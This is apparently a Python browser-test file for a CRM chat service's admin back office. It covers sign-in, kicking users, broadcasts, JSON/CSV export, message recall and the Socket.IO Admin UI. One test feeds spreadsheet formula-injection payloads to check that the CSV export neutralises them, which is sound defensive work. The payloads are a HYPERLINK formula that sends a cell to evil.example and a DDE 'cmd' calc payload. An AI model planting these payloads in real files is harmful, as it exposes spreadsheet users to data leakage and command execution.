"""
The back office in a real browser: Debian's Chromium, headless, driven
with playwright-core (L{tests.support.browser}), against the real
L{CRMIMService} on loopback, with Node socket.io-client clients as the
users an operator watches.

  - L{AdminPageTests}: sign in (a wrong token refused), a user who logs in
    appears without a reload, kicking them disconnects their client, a
    broadcast reaches a client as C{system:notice}, a conversation is
    exported as JSON and CSV, a row's Recall recalls that message only;
    the page fetches nothing from elsewhere.
  - L{AdminUITests}: the official Socket.IO Admin UI (the C{ui/dist} build
    shipped in the npm package C{@socket.io/admin-ui}, served here from
    another loopback port) signs in to crm_im's C{/admin} namespace with the
    admin token and lists a connected socket.

Set C{CRM_IM_SCREENSHOTS} to a directory (C{docs/images}) to keep
screenshots of the dashboard and the users page there.

Skipped, with the reason, where Chromium is missing; failed under
C{CI=true}.
"""

from __future__ import annotations

import csv
import io
import json
import os
from typing import Any, Generator

from twisted.internet import reactor
from twisted.internet.defer import Deferred, inlineCallbacks
from twisted.internet.endpoints import TCP4ServerEndpoint
from twisted.trial.unittest import TestCase
from twisted.web.server import Site
from twisted.web.static import File

from tests.integration.test_admin_api import TOKEN, call
from tests.integration.test_im import serveIM
from tests.support.apps import ConnectionTracker
from tests.support.browser import Browser, startBrowser
from tests.support.clients import NODE_MODULES, ClientDriver, DriverTestMixin

Inline = Generator[Deferred[Any], Any, Any]

ADMIN_UI_DIST = NODE_MODULES / "@socket.io" / "admin-ui" / "ui" / "dist"


class BrowserCase(DriverTestMixin, TestCase):
    """
    A browser, a Node driver and a crm_im server for each test.
    """

    timeout = 120
    serverSettings: dict[str, Any] = {"adminToken": TOKEN}

    @inlineCallbacks
    def setUp(self) -> Inline:
        """
        Start the browser first (skip early without one), then the server
        and the driver.
        """
        self.browser: Browser = yield startBrowser(self, reactor)
        # The browser's keep-alive connections outlive the server's stop:
        # dropped (and waited for) after it, before the browser closes.
        connections = ConnectionTracker()
        self.addCleanup(lambda: connections.dropAll(reactor))
        self.service, self.url = yield serveIM(self, **self.serverSettings)
        for port in self.service.ports:
            connections.track(port.factory)
        self.driver: ClientDriver = yield self.startDriver()

    @inlineCallbacks
    def login(self, client: str, userId: str, name: str) -> Inline:
        """
        Connect a Node client and log it in.
        """
        yield self.driver.connect(client, self.url, transports=["websocket"])
        (ack,) = yield self.driver.emit(client, "user:login", {"id": userId, "name": name}, ack=True)
        self.assertEqual(ack.get("id"), userId, repr(ack))

    @inlineCallbacks
    def shot(self, name: str) -> Inline:
        """
        Keep a screenshot in C{$CRM_IM_SCREENSHOTS}, when set.
        """
        directory = os.environ.get("CRM_IM_SCREENSHOTS")
        if directory:
            os.makedirs(directory, exist_ok=True)
            yield self.browser.screenshot(os.path.join(directory, name))

    @inlineCallbacks
    def noExternalFetches(self) -> Inline:
        """
        Fail if the page asked for anything from another origin.
        """
        external = yield self.browser.external()
        self.assertEqual(external, [])


class AdminPageTests(BrowserCase):
    """
    The page at C{/admin/}.
    """

    @inlineCallbacks
    def signIn(self) -> Inline:
        """
        Open the page, see a wrong token refused, sign in.
        """
        yield self.browser.goto(self.url + "/admin/")
        yield self.browser.waitFor("!document.querySelector('#signin').hidden")
        yield self.browser.fill("#token", "not-the-token")
        yield self.browser.click("#signin-button")
        message = yield self.browser.waitFor(
            "!document.querySelector('#signin-error').hidden && document.querySelector('#signin-error').textContent")
        self.assertIn("Wrong admin token", message)
        yield self.shot("admin-signin.png")
        yield self.browser.fill("#token", TOKEN)
        yield self.browser.click("#signin-button")
        yield self.browser.waitFor("!document.querySelector('#app').hidden")

    @inlineCallbacks
    def screenshotCrowd(self) -> Inline:
        """
        For screenshots only: more users (one away, one on two devices),
        some traffic, and a dashboard that has drawn its rate chart.

        @return: the clients added.
        """
        if not os.environ.get("CRM_IM_SCREENSHOTS"):
            return []
        clients = []
        for userId, name in [("dave", "Dave Chen"), ("erin", "Erin Zhou"), ("frank", "Frank Liu")]:
            yield self.login(userId, userId, name)
            clients.append(userId)
        yield self.login("dave-phone", "dave", "Dave Chen")
        clients.append("dave-phone")
        yield self.driver.emit("erin", "status_change", {"status": "away"}, ack=True)
        yield self.driver.emit("dave", "group:create", {"name": "Sales East", "memberIds": ["erin", "frank"]},
                               ack=True)
        for index in range(12):
            yield self.driver.emit("dave", "message", {"toId": "erin", "content": f"m{index}", "type": "text"},
                                   ack=True)
            if index % 4 == 3:
                yield self.browser.waitFor(f"document.querySelector('#stat-rate-sub').textContent.includes('{index + 2}')")
        yield self.browser.waitFor("document.querySelectorAll('#chart-rate svg').length === 1", timeout=20)
        return clients

    @inlineCallbacks
    def test_dashboardAndUsers(self) -> Inline:
        """
        Sign in; the dashboard counts a user who logs in by itself; on the
        users page, a user who logs in appears without a reload, with their
        device; kicking them (reason in the dialog) disconnects their
        client with C{server:kick}; the empty state says nobody is online.
        """
        yield self.signIn()
        yield self.browser.waitFor("document.querySelector('#stat-users').textContent === '0'")
        yield self.login("alice", "alice", "Alice Wang")
        yield self.login("bob", "bob", "Bob Li")
        yield self.driver.emit("alice", "message", {"toId": "bob", "content": "hi", "type": "text"}, ack=True)
        yield self.browser.waitFor("document.querySelector('#stat-users').textContent === '2'")
        yield self.browser.waitFor("document.querySelector('#stat-sessions').textContent === '2'")
        yield self.browser.waitFor("document.querySelectorAll('#chart-sessions svg').length === 1")
        extras = yield self.screenshotCrowd()
        yield self.shot("admin-dashboard.png")

        yield self.browser.click("nav a[data-view=users]")
        yield self.browser.waitFor("document.querySelector('tr[data-user-id=\"alice\"]')")
        yield self.login("carol", "carol", "Carol Zhang")
        # No reload: the row of a user who logged in after the page loaded.
        row = yield self.browser.waitFor(
            "document.querySelector('tr[data-user-id=\"carol\"]') && "
            "document.querySelector('tr[data-user-id=\"carol\"]').textContent")
        self.assertIn("Carol Zhang", row)
        self.assertIn("websocket", row)
        yield self.shot("admin-users.png")

        yield self.browser.click("button[data-action=kick][data-user=carol]")
        yield self.browser.waitFor("!document.querySelector('#modal').hidden")
        yield self.browser.fill("#modal-reason", "please update your client")
        yield self.browser.click("#modal-confirm")
        (kick,) = yield self.driver.waitFor("carol", "server:kick")
        self.assertEqual(kick["reason"], "please update your client")
        yield self.driver.waitForDisconnect("carol")
        yield self.browser.waitFor("!document.querySelector('tr[data-user-id=\"carol\"]')")

        for client in ["alice", "bob", *extras]:
            yield self.driver.close(client)
        empty = yield self.browser.waitFor(
            "!document.querySelector('#users-empty').hidden && document.querySelector('#users-empty').textContent")
        self.assertIn("Nobody is online", empty)
        yield self.noExternalFetches()

    @inlineCallbacks
    def test_broadcastAndExport(self) -> Inline:
        """
        A broadcast sent from the page reaches a logged-in client as
        C{system:notice}; a 1:1 conversation shows in the export and
        downloads as JSON and CSV; the audit log lists the broadcast.
        """
        yield self.login("alice", "alice", "Alice")
        yield self.login("bob", "bob", "Bob")
        for index in range(3):
            yield self.driver.emit("alice", "message", {"toId": "bob", "content": f"报价 {index}, \"ok\"",
                                                        "type": "text"}, ack=True)
        yield self.signIn()
        yield self.browser.click("nav a[data-view=broadcast]")
        yield self.browser.fill("#broadcast-message", "系统将于 22:00 维护")
        yield self.browser.click("#broadcast-send")
        (notice,) = yield self.driver.waitFor("bob", "system:notice")
        self.assertEqual(notice["message"], "系统将于 22:00 维护")
        result = yield self.browser.waitFor(
            "!document.querySelector('#broadcast-result').hidden && document.querySelector('#broadcast-result').textContent")
        self.assertIn("2", result)

        yield self.browser.click("nav a[data-view=messages]")
        yield self.browser.fill("#export-user", "alice")
        yield self.browser.fill("#export-peer", "bob")
        yield self.browser.click("#export-run")
        yield self.browser.waitFor("document.querySelectorAll('#messages-table tbody tr').length === 3")
        yield self.shot("admin-export.png")
        download = yield self.browser.download("#export-json")
        self.assertEqual(download["name"], "crm_im-export-alice_bob.json")
        messages = json.loads(download["text"])
        self.assertEqual([m["content"] for m in messages], [f"报价 {i}, \"ok\"" for i in range(3)])
        download = yield self.browser.download("#export-csv")
        rows = list(csv.DictReader(io.StringIO(download["text"].lstrip("\ufeff"))))
        self.assertEqual([(r["fromId"], r["toId"], r["content"]) for r in rows],
                         [("alice", "bob", f"报价 {i}, \"ok\"") for i in range(3)])

        yield self.browser.click("nav a[data-view=audit]")
        text = yield self.browser.waitFor(
            "document.querySelector('#audit-table tbody tr') && document.querySelector('#audit-table tbody').textContent")
        self.assertIn("broadcast", text)
        yield self.shot("admin-audit.png")
        for view in ("groups", "rooms", "broadcast"):
            yield self.browser.click(f"nav a[data-view={view}]")
            yield self.browser.waitFor(f"!document.querySelector('#view-{view}').hidden")
            yield self.shot(f"admin-{view}.png")
        yield self.noExternalFetches()

    @inlineCallbacks
    def test_csvFormulasInert(self) -> Inline:
        """
        A cell of the CSV export that a spreadsheet would take for a
        formula (users write what they like: C{=HYPERLINK(...)}, C{@SUM},
        C{+}, C{-}, a leading tab) starts with C{'}, so that opening the
        export runs nothing; numbers, other text and the JSON export are
        as they were.
        """
        yield self.login("alice", "alice", "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")")
        yield self.login("bob", "bob", "Bob")
        contents = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "-5", "a=b", "1.5"]
        for content in contents:
            yield self.driver.emit("alice", "message", {"toId": "bob", "content": content, "type": "text"}, ack=True)
        yield self.signIn()
        yield self.browser.click("nav a[data-view=messages]")
        yield self.browser.fill("#export-user", "alice")
        yield self.browser.fill("#export-peer", "bob")
        yield self.browser.click("#export-run")
        yield self.browser.waitFor(f"document.querySelectorAll('#messages-table tbody tr').length === {len(contents)}")
        download = yield self.browser.download("#export-json")
        self.assertEqual([m["content"] for m in json.loads(download["text"])], contents)
        download = yield self.browser.download("#export-csv")
        rows = list(csv.DictReader(io.StringIO(download["text"].lstrip("\ufeff"))))
        self.assertEqual(
            [r["content"] for r in rows],
            ["'=1+2", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\t=1", "-5", "a=b", "1.5"],
        )
        self.assertEqual({r["fromName"] for r in rows}, {"'=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"})
        self.assertEqual({r["seq"] for r in rows} & {""}, set())

    @inlineCallbacks
    def test_recallRow(self) -> Inline:
        """
        The export's Recall button recalls the row clicked and no other:
        alice and bob each sent a message with the id C{1-xyz} (ids are
        unique per sender only); recalling bob's row leaves alice's
        content in place, and both users are told of bob's message only.
        """
        yield self.login("alice", "alice", "Alice")
        yield self.login("bob", "bob", "Bob")
        yield self.driver.emit("alice", "message", {"toId": "bob", "content": "alice's", "id": "1-xyz",
                                                    "type": "text"}, ack=True)
        yield self.driver.emit("bob", "message", {"toId": "alice", "content": "bob's", "id": "1-xyz",
                                                  "type": "text"}, ack=True)
        api = self.url + "/admin/api/"
        _, _, page = yield call(api, "GET", "messages?userId=alice&peerId=bob")
        ofAlice, ofBob = page["items"]
        self.assertEqual([(m["fromId"], m["id"]) for m in (ofAlice, ofBob)], [("alice", "1-xyz"), ("bob", "1-xyz")])
        yield self.signIn()
        yield self.browser.click("nav a[data-view=messages]")
        yield self.browser.fill("#export-user", "alice")
        yield self.browser.fill("#export-peer", "bob")
        yield self.browser.click("#export-run")
        yield self.browser.waitFor("document.querySelectorAll('#messages-table tbody tr button').length === 2")
        yield self.browser.click(f"#messages-table tbody tr[data-seq='{ofBob['seq']}'] button")
        yield self.browser.waitFor("!document.querySelector('#modal').hidden")
        yield self.browser.click("#modal-confirm")
        for client in ("alice", "bob"):
            (recalled,) = yield self.driver.waitFor(client, "message:recalled")
            self.assertEqual((recalled["seq"], recalled["fromId"], recalled["by"]), (ofBob["seq"], "bob", "admin"))
        # the page exports again: bob's row is recalled, alice's is not
        yield self.browser.waitFor("document.querySelectorAll('#messages-table tbody tr button').length === 1")
        kept = yield self.browser.waitFor(
            f"document.querySelector(\"#messages-table tbody tr[data-seq='{ofAlice['seq']}'] td.content\").textContent")
        self.assertEqual(kept, "alice's")
        _, _, page = yield call(api, "GET", "messages?userId=alice&peerId=bob")
        self.assertEqual([(m["fromId"], m.get("content"), m.get("recalledBy")) for m in page["items"]],
                         [("alice", "alice's", None), ("bob", "", "admin")])
        self.assertEqual([args[0]["seq"] for args in self.driver.events("alice", "message:recalled")], [ofBob["seq"]])
        yield self.noExternalFetches()

    @inlineCallbacks
    def test_chinese(self) -> Inline:
        """
        The language switch shows Chinese labels (and remembers it).
        """
        yield self.signIn()
        yield self.browser.click("#app .lang-toggle")
        title = yield self.browser.waitFor(
            "document.documentElement.lang === 'zh-CN' && document.querySelector('#view-title').textContent")
        self.assertEqual(title, "仪表盘")
        yield self.browser.goto(self.url + "/admin/#users")
        label = yield self.browser.waitFor(
            "!document.querySelector('#app').hidden && document.querySelector('nav a[data-view=users] [data-i18n]').textContent")
        self.assertEqual(label, "用户")
        if os.environ.get("CRM_IM_SCREENSHOTS"):
            yield self.login("alice", "alice", "王小明")
            yield self.browser.waitFor("document.querySelector('tr[data-user-id=\"alice\"]')")
            yield self.shot("admin-users-zh.png")


class AdminUITests(BrowserCase):
    """
    The official Socket.IO Admin UI against C{--admin-ui}.
    """

    @inlineCallbacks
    def setUp(self) -> Inline:
        """
        Serve the UI's build on a loopback port of its own, and crm_im with
        C{--admin-ui} and that origin in C{--cors-origin}.
        """
        if not ADMIN_UI_DIST.exists():
            self.fail(f"{ADMIN_UI_DIST} is missing: run `npm ci --prefix tests/interop`")
        site = Site(File(str(ADMIN_UI_DIST)))
        connections = ConnectionTracker()
        connections.track(site)
        # (cleanups run last first: the port closes, then its connections)
        self.addCleanup(lambda: connections.dropAll(reactor))
        port = yield TCP4ServerEndpoint(reactor, 0, interface="127.0.0.1").listen(site)
        self.addCleanup(port.stopListening)
        self.uiURL = f"http://127.0.0.1:{port.getHost().port}"
        self.serverSettings = {"adminToken": TOKEN, "adminUI": True, "corsOrigins": (self.uiURL,)}
        yield BrowserCase.setUp(self)

    @inlineCallbacks
    def test_listsSockets(self) -> Inline:
        """
        The UI refuses a wrong password, connects with the admin token as
        password and lists the socket of a logged-in client.
        """
        yield self.login("alice", "alice", "Alice")
        yield self.browser.goto(self.uiURL + "/")
        yield self.browser.waitFor("document.querySelector('input[type=password]')")
        yield self.browser.fill(".v-dialog input[type=text]", self.url)
        yield self.browser.fill(".v-dialog input[type=password]", "wrong")
        yield self.browser.click(".v-dialog button[type=submit]")
        yield self.browser.waitFor("document.querySelector('.v-dialog').innerText.toLowerCase().includes('invalid credentials')")
        yield self.browser.fill(".v-dialog input[type=password]", TOKEN)
        yield self.browser.click(".v-dialog button[type=submit]")
        yield self.browser.waitFor("!document.querySelector('.v-dialog--active')", timeout=15)
        yield self.browser.goto(self.uiURL + "/#/sockets")
        (sid,) = self.service.presence.devicesOf("alice")
        text = yield self.browser.waitFor(
            f"document.body.innerText.includes({json.dumps(sid)}) && document.body.innerText", timeout=15)
        self.assertIn(sid, text)
        yield self.shot("admin-ui-sockets.png")
